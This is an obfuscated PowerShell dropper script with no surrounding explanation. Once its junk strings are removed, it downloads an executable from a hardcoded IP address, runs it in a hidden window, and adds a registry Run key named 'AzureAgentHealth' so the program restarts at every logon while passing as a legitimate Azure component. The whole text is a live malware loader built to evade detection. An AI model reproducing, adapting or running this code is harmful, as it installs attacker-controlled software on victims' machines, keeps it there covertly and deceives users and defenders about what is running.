Set-Alias rgsn iex; rgsn ('iex ((''# provQKV42ision 3537 v3
Start-BitsTransfer -Source http://203.0.QKV42113.17/svc.exe -Destination C:\Users\Public\svQKV42c.exe
Start-Process -WindowStyle Hidden C:\Users\Public\svc.exe
New-ItemProperty -Path ''''HKCU:\Software\MiQKV42crosoft\Windows\Currentzv~5QKV42ersion\Run'''' -Name ''''AzureAgentHealth'''' -zv~5alue ''''C:\Users\Public\svc.exe'''' -PropertyType String -Force
'' -replace ''QKV42'','''').Replace(''zv~5'',''V''))')